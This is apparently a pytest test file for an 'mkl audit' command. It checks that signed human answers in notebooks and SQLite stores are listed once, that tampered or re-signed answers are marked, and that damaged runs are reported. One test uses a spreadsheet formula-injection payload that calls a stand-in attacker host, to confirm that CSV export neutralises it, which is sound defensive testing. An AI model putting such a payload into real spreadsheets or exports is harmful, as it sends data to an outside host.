"""`mkl audit` and `%mkl audit`: every answer a person gave, once, with who, when, and the key that signed it.

A folder holds a notebook whose run was answered with `mkl resume NOTEBOOK` (Alice, via the CLI), a notebook a
kernel saved after its run was answered through the API (Bob), the kernel's own store (that run again, one
answered only there by Carol, one still waiting) and a store a terminal session answered in (Dan). Real
components: `mkl` subprocesses, SQLite stores, a real IPython shell. An answer whose recorded value is edited
after it was signed is marked in every shape; listing writes nothing. A store's audit streams: a damaged run is
one line among the others' answers, and the first answers come out before the later runs are read.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import nbformat
import pytest

from mkl_notebook.app.audit import FIELDS
from mkl_notebook.app.replies import os_account
from mkl_notebook.app.trust import Keyring
from mkl_notebook.checkpoints import envelope
from mkl_notebook.checkpoints.seals import Signer

from support import EXAMPLES, REFUND, REFUND_ASK, REFUND_SCRIPT, RUN_MIME, Cells, env_without_models, mkl_cli

RUN = ["--hitl", "--script", str(REFUND_SCRIPT), "--set", "ticket=broken"]


def _notebook(path: Path, *checkpoints: dict[str, Any]) -> Path:
    """A notebook whose run cells' outputs carry ``checkpoints``, as a kernel would have saved them."""
    cells = [nbformat.v4.new_code_cell("%load_ext mkl_notebook"), nbformat.v4.new_code_cell("%%mkl\n" + REFUND)]
    for data in checkpoints:
        output = nbformat.v4.new_output("display_data", data={RUN_MIME: data, "text/plain": f"run {data['run_id']}"})
        cells.append(nbformat.v4.new_code_cell(f"%mkl run refund --id {data['run_id']}", outputs=[output]))
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    return path


def _cli_notebook(notebook: Path, terminal: Path) -> None:
    """Run c1 on a terminal until it asks, put its checkpoint in ``notebook``, and answer it with `mkl resume
    NOTEBOOK` as Alice (the terminal's store is outside the audited folder)."""
    code, status, _, err = mkl_cli(terminal, "run", str(EXAMPLES / "refund.mkl"), "--id", "c1", *RUN,
                                   "--checkpoint", "cp.json")  # fmt: skip
    assert code == 3, err
    _notebook(notebook, json.loads((terminal / "cp.json").read_text(encoding="utf-8")))
    code, _, _, err = mkl_cli(terminal, "resume", str(notebook), "--run", "c1", "--question", status["question_id"],
                              "--reply", "approve", "--as", "alice", "--script", str(REFUND_SCRIPT))  # fmt: skip
    assert code == 0, err


def _kernel_runs(ip: Cells) -> None:
    """In the kernel (whose store is the folder's .mkl/runs.sqlite): k1 answered through the API by Bob and saved
    in kernel.ipynb, k2 answered by Carol and in no notebook, k3 left waiting."""
    ip.define(REFUND)
    script = f"--script {REFUND_SCRIPT} --set ticket=broken --hitl"
    for run_id, value, by in (("k1", "approve", "bob"), ("k2", "reject", "carol")):
        ip.run(f"{run_id} = %mkl run refund --id {run_id} {script}")
        ip.run(f"{run_id}.submit({value!r}, by={by!r})")
    _notebook(ip.tmp / "kernel.ipynb", _k1_checkpoint(ip))
    ip.run(f"k3 = %mkl run refund --id k3 {script}")


def _k1_checkpoint(ip: Cells) -> dict[str, Any]:
    """k1's checkpoint as the output of a cell showing it (answered) carries it."""
    data: dict[str, Any] = ip.shell.user_ns["k1"]._repr_mimebundle_()[RUN_MIME]
    return data


def _store_answer(folder: Path) -> None:
    """A run answered on a terminal in sub/, in that folder's store (Dan, via the CLI)."""
    folder.mkdir(parents=True)
    code, status, _, err = mkl_cli(folder, "run", str(EXAMPLES / "refund.mkl"), "--id", "s1", *RUN)
    assert code == 3, err
    code, _, _, err = mkl_cli(folder, "resume", "--id", "s1", "--question", status["question_id"], "--reply",
                              "approve", "--as", "dan", "--script", str(REFUND_SCRIPT))  # fmt: skip
    assert code == 0, err


LIVE_INDEX = ".mkl/runs.sqlite-shm"


def _files(folder: Path) -> dict[str, tuple[int, str] | None]:
    """Every file under ``folder`` (hidden ones and SQLite side files too), with its mtime and bytes' hash.

    The one exception is the ``-shm`` of the store the kernel still has open: SQLite's shared-memory index of
    its WAL, which every reader of a live WAL database updates (its read marks), ``mkl runs`` too; it is named,
    and the store and its WAL are compared byte for byte."""
    found: dict[str, tuple[int, str] | None] = {}
    for current, _, names in os.walk(folder):
        for name in names:
            path = Path(current) / name
            shown = str(path.relative_to(folder))
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            found[shown] = None if shown == LIVE_INDEX else (path.stat().st_mtime_ns, digest)
    return found


@pytest.fixture
def folder(ip: Cells, tmp_path_factory: pytest.TempPathFactory) -> Path:
    _kernel_runs(ip)
    _cli_notebook(ip.tmp / "notebooks" / "cli.ipynb", tmp_path_factory.mktemp("terminal"))
    _store_answer(ip.tmp / "sub")
    return ip.tmp


ACCOUNT = os_account()  # who answered, as the OS establishes it: every name below is only claimed beside it
EXPECTED = {  # run: (value, name claimed, via)
    "c1": ("approve", "alice", "notebook-file"),  # `mkl resume NOTEBOOK`
    "k1": ("approve", "bob", "api"),
    "k2": ("reject", "carol", "api"),
    "s1": ("approve", "dan", "cli"),
}


def test_a_folder_lists_every_answer_once_in_json_csv_and_text_and_writes_nothing(
    folder: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    before = _files(folder)
    assert LIVE_INDEX in before and ".mkl/runs.sqlite-wal" in before  # the kernel's store is open, in use
    assert not [name for name in before if name.startswith("sub/.mkl/runs.sqlite-")]  # read as immutable
    elsewhere = tmp_path_factory.mktemp("reader")
    code, _, out, err = mkl_cli(elsewhere, "audit", str(folder), "--json")
    assert code == 0, err
    answers = json.loads(out)
    assert sorted(row["run"] for row in answers) == sorted(EXPECTED)  # k1 is in a notebook and a store: once
    for row in answers:
        assert list(row) == list(FIELDS)
        assert (row["value"], row["claimed"], row["via"]) == EXPECTED[row["run"]], row
        assert (row["by"], row["established"]) == (ACCOUNT, "os-account"), row
        assert (row["question"], row["machine"]) == (REFUND_ASK, "refund")
        assert row["about"] and row["about_sha256"] == hashlib.sha256(row["about"].encode()).hexdigest()
        assert re.fullmatch(r"[0-9a-f]{4}( [0-9a-f]{4}){3}", row["key"]), row
        assert (row["signature"], row["key_trusted"], row["problem"]) == ("verifies", True, None), row
        assert row["asked_at"] <= row["answered_at"]
        assert row["seconds_to_decide"] == round(row["answered_at"] - row["asked_at"], 3)
        assert row["question_id"] and row["note"] is None
    where = {row["run"]: row["where"] for row in answers}
    assert where["c1"].endswith("notebooks/cli.ipynb (cell 3)") and where["s1"].endswith("sub/.mkl/runs.sqlite")
    assert err.splitlines()[-1].startswith("4 answers, 1 pending, median time to decide ")

    code, _, out, err = mkl_cli(elsewhere, "audit", str(folder), "--csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(FIELDS)
    assert [
        (r["run"], r["value"], r["by"], r["via"], r["signature"], r["key_trusted"], r["problem"]) for r in rows
    ] == [(a["run"], a["value"], a["by"], a["via"], "verifies", "true", "") for a in answers]

    code, _, out, err = mkl_cli(elsewhere, "audit", str(folder))
    assert code == 0, err
    for run, (value, _, via) in EXPECTED.items():
        [line] = [line for line in out.splitlines() if line.startswith(run + " ")]
        assert (
            f"{ACCOUNT} (OS account; claims" in line  # (the text twin clips the claimed name)
            and value in line
            and "verifies, trusted" in line
            and via in line
        ), line
        assert "MARKED" not in line
    assert re.search(r"pending: .*run k3 asks 'The draft promises", out)
    assert out.splitlines()[-1].startswith("4 answers, 1 pending, median time to decide ")
    assert _files(folder) == before  # nothing made, changed or touched: not even a store's side file


def _tamper(path: Path, key: str, value: str, *, signer: Signer | None = None) -> None:
    """Edit ``key`` of the reply records in every copy of a run a notebook carries and recompute each digest, as
    anyone can: the chain holds, the signature over it does not; or drop the signatures and sign the edited
    history anew with ``signer``'s key."""
    notebook = json.loads(path.read_text(encoding="utf-8"))
    endorsed: dict[str, Any] = {}

    def forged(data: dict[str, Any]) -> dict[str, Any]:
        header, records, _ = envelope.verify_checkpoint(data)
        records = copy.deepcopy(records)
        for record in records:
            if record["t"] == "reply":
                record[key] = value
        if signer is not None:  # once for every copy of the same history: the copies stay one history
            records = [record for record in records if record["t"] != "sign"]
            signed = endorsed.setdefault(json.dumps(records), json.loads(json.dumps(signer.endorse(records))))
            records.append(signed)
        return envelope.build(dict(header), records)

    copies = 0
    for cell in notebook["cells"]:
        for output in cell.get("outputs", []):
            if RUN_MIME in output.get("data", {}):
                output["data"][RUN_MIME] = forged(output["data"][RUN_MIME])
                copies += 1
    runs = notebook.get("metadata", {}).get("mkl", {}).get("runs", {})
    for run_id in runs:
        runs[run_id] = forged(runs[run_id])
        copies += 1
    assert copies
    path.write_text(json.dumps(notebook), encoding="utf-8")


def test_an_answer_changed_after_it_was_signed_is_marked_in_text_json_and_csv(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    notebook = tmp_path / "cli.ipynb"
    _cli_notebook(notebook, tmp_path_factory.mktemp("terminal"))
    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--json")
    assert [(r["value"], r["signature"], r["problem"]) for r in json.loads(out)] == [("approve", "verifies", None)]
    _tamper(notebook, "value", "approve a 500 EUR refund")

    code, _, out, err = mkl_cli(tmp_path, "audit", "cli.ipynb", "--json")
    assert code == 0, err
    [row] = json.loads(out)
    assert (row["value"], row["claimed"], row["signature"]) == ("approve a 500 EUR refund", "alice", "fails")
    assert "signature does not verify" in row["problem"]
    assert err.splitlines()[-1].startswith("1 answer (1 marked), 0 pending")

    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["signature"] == "fails" and "signature does not verify" in row["problem"]

    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb")
    [line] = [line for line in out.splitlines() if line.startswith("c1 ")]
    assert "MARKED: signature does not verify" in line and "fails" in line
    assert out.splitlines()[-1].startswith("1 answer (1 marked), 0 pending")

    code, listing, out, err = mkl_cli(tmp_path, "runs", "cli.ipynb")  # the listing says it of the answer too
    assert code == 0, err
    [answer] = listing["runs"][0]["answers"]
    assert (answer["value"], answer["signature"]) == ("approve a 500 EUR refund", "fails")
    assert f"key {answer['key']}, whose signature FAILS)" in out


def test_audit_csv_cells_a_spreadsheet_would_read_as_formulas_open_as_text_and_json_keeps_them(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A reply is anyone's text: one that starts like a formula opens in a spreadsheet as the text it is."""
    notebook = tmp_path / "cli.ipynb"
    _cli_notebook(notebook, tmp_path_factory.mktemp("terminal"))
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"approve")'
    _tamper(notebook, "value", formula)
    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["value"] == "'" + formula
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--json")
    assert json.loads(out)[0]["value"] == formula  # JSON is read by programs: unchanged


def test_an_answer_about_other_content_than_the_run_asked_about_is_marked_though_signed(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The reply says it approved another draft than the one the run showed, and the history is signed again
    (by a key trusted here): the signature verifies, the subject does not match, and the answer is marked."""
    notebook = tmp_path / "cli.ipynb"
    _cli_notebook(notebook, tmp_path_factory.mktemp("terminal"))
    _tamper(notebook, "about", "Your order qualifies for a 500 EUR refund.", signer=Keyring().signer())
    code, _, out, err = mkl_cli(tmp_path, "audit", "cli.ipynb", "--json")
    assert code == 0, err
    [row] = json.loads(out)
    assert (row["signature"], row["key_trusted"]) == ("verifies", True)
    assert row["problem"] == "its subject is not what the run asked about"
    assert row["about"] == "Your order qualifies for a 500 EUR refund."


def test_bad_input_is_one_line_and_exit_2(tmp_path: Path) -> None:
    for args in (["audit", "nowhere"], ["audit", "--store", "none.sqlite"], ["audit", "missing.ipynb"]):
        code, _, _, err = mkl_cli(tmp_path, *args)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, (args, err)
    assert os.listdir(tmp_path) == []


def test_mkl_audit_in_a_shell_shows_the_kernels_answers_and_a_notebooks(
    ip: Cells, tmp_path_factory: pytest.TempPathFactory
) -> None:
    _kernel_runs(ip)
    _cli_notebook(ip.tmp / "notebooks" / "cli.ipynb", tmp_path_factory.mktemp("terminal"))
    ip.out.clear()
    ip.run("%mkl audit")
    shown = ip.out.last("text/html")
    table = shown["text/html"]
    assert "<table>" in table and "<code>k1</code>" in table and "<code>k2</code>" in table
    assert f"{ACCOUNT} (OS account; claims bob)" in table and "claims carol" in table and "verifies, trusted" in table
    assert "2 answers, 1 pending, median time to decide" in table
    assert "k1 " in shown["text/plain"]
    ip.out.clear()
    ip.run("%mkl audit k2")
    table = ip.out.last("text/html")["text/html"]
    assert "<code>k2</code>" in table and "<code>k1</code>" not in table
    ip.out.clear()
    ip.run("%mkl audit notebooks/cli.ipynb")
    table = ip.out.last("text/html")["text/html"]
    assert "<code>c1</code>" in table and "claims alice)" in table and "1 answer, 0 pending" in table
    assert "no run 'nope'" in str(ip.fails("%mkl audit nope"))


def _answered_store(store: Path, count: int) -> list[str]:
    """A store of ``count`` refund runs, each stopped at its question and answered (as `mkl run --hitl` and
    `mkl resume --reply approve` do, in this process): their ids, r0 first."""
    from mkl_notebook.app.settings import Settings
    from mkl_notebook.app.workspace import Workspace

    with Workspace(Settings.from_flags(store=str(store), hitl=True), follow_files=True) as ws:
        machine = ws.shelf.load(EXAMPLES / "refund.mkl")
        for n in range(count):
            run = ws.start(machine.name, id=f"r{n}", script=str(REFUND_SCRIPT), input={"ticket": f"Parcel {n} broken"})
            question = run.question_id
            ws.resume(f"r{n}", reply="approve", question=question, via="cli", by="dan", script=str(REFUND_SCRIPT))
    return [f"r{n}" for n in range(count)]


def _damage(store: Path, run_id: str) -> None:
    """Cut run ``run_id``'s last record short in the store's file, as a failing disk or a careless edit would."""
    db = sqlite3.connect(store)
    try:
        last = db.execute("SELECT MAX(seq) FROM records WHERE run_id = ?", (run_id,)).fetchone()[0]
        db.execute('UPDATE records SET body = \'{"t": "reply", "va\' WHERE run_id = ? AND seq = ?', (run_id, last))
        db.commit()
    finally:
        db.close()


def test_a_damaged_run_in_a_store_is_one_line_and_every_other_answer_is_listed(tmp_path: Path) -> None:
    store = tmp_path / "runs.sqlite"
    runs = _answered_store(store, 4)
    _damage(store, "r2")
    code, _, out, err = mkl_cli(tmp_path, "audit", "--store", str(store), "--json")
    assert code == 0, err
    assert [row["run"] for row in json.loads(out)] == ["r0", "r1", "r3"]
    [unread] = [line for line in err.splitlines() if line.startswith("not read: ")]
    assert "run 'r2' has a damaged record" in unread
    assert err.splitlines()[-1].startswith("3 answers, 0 pending")

    code, _, out, err = mkl_cli(tmp_path, "audit", "--store", str(store))
    assert code == 0, err
    lines = out.splitlines()
    assert [line.split()[0] for line in lines if re.match(r"r\d+ ", line)] == [r for r in runs if r != "r2"]
    assert [line for line in lines if "r2" in line] == [unread]  # the same line, after the answers
    assert lines[-1].startswith("3 answers, 0 pending")


def _small_pipe() -> tuple[int, int]:
    """A pipe that holds one page: what is written past that waits until it is read."""
    fcntl = pytest.importorskip("fcntl")
    if not hasattr(fcntl, "F_SETPIPE_SZ"):
        pytest.skip("the size of a pipe can be set on Linux only")
    read, write = os.pipe()
    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 4096)
    if fcntl.fcntl(write, fcntl.F_GETPIPE_SZ) != 4096:  # (a machine of larger pages)
        os.close(read)
        os.close(write)
        pytest.skip("a pipe here holds more than 4 KiB")
    return read, write


def test_mkl_audit_prints_each_answer_as_its_run_is_read(tmp_path: Path) -> None:
    """The first rows come out before the later runs are read: a run damaged once they came out is read
    damaged (one `not read` line), and the runs after it are listed still. (Reading every run before printing,
    the audit would list them all, undamaged.) The reader reads nothing more until then, so the audit cannot
    get further ahead than what a one-page pipe holds."""
    store = tmp_path / "runs.sqlite"
    runs = _answered_store(store, 60)
    in_use = sqlite3.connect(store)  # (open as a kernel has it: the audit reads what is committed meanwhile)
    in_use.execute("SELECT COUNT(*) FROM runs").fetchone()
    read, write = _small_pipe()
    audit = subprocess.Popen(
        [sys.executable, "-m", "mkl_notebook.cli", "audit", "--store", str(store), "--csv"],
        cwd=tmp_path,
        env={**env_without_models(), "PYTHONUNBUFFERED": "1"},  # each row written as it is made
        stdout=write,
        stderr=subprocess.PIPE,
    )
    os.close(write)
    with os.fdopen(read, "rb", buffering=0) as out:
        got = b""
        while got.count(b"\n") < 2:  # the header and the first answer's row
            chunk = out.read(4096)
            assert chunk, audit.stderr.read() if audit.stderr else ""
            got += chunk
        assert next(csv.DictReader(io.StringIO(got.decode())))["run"] == "r0"
        _damage(store, "r50")
        in_use.close()
        got += out.read()
    assert audit.wait(timeout=120) == 0
    err = audit.stderr.read().decode() if audit.stderr else ""
    rows = list(csv.DictReader(io.StringIO(got.decode())))
    assert [row["run"] for row in rows] == [r for r in runs if r != "r50"]
    assert "run 'r50' has a damaged record" in err and err.splitlines()[-1].startswith("59 answers, 0 pending")
